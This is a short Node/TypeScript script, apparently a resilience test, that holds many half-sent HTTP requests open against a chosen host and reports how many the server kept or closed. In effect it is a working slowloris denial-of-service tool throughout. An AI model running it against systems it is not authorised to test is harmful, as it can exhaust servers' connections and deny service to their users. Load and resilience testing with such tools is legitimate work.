// Opens COUNT connections to HOST:PORT, sends each the start of a request
// and never finishes it, holds them SECONDS, and prints how many the server
// accepted and how many it closed. Bounded in count and time.
//   node slowloris.js HOST PORT COUNT SECONDS
import { connect, type Socket } from 'node:net';

const [host, portText, countText, secondsText] = process.argv.slice(2);
const sockets: Socket[] = [];
let connected = 0;
let closedByServer = 0;
for (let i = 0; i < Number(countText); i++) {
  const s = connect(Number(portText), host);
  s.on('connect', () => {
    connected++;
    s.write(`GET /nic/update?hostname=x HTTP/1.1\r\nHost: ${host}\r\n`);
  });
  s.on('close', () => { closedByServer++; });
  s.on('error', () => undefined);
  sockets.push(s);
}
setTimeout(() => {
  const open = sockets.filter((s) => !s.destroyed).length;
  process.stdout.write(JSON.stringify({ connected, closedByServer, open }) + '\n');
  for (const s of sockets) s.destroy();
}, Number(secondsText) * 1000);
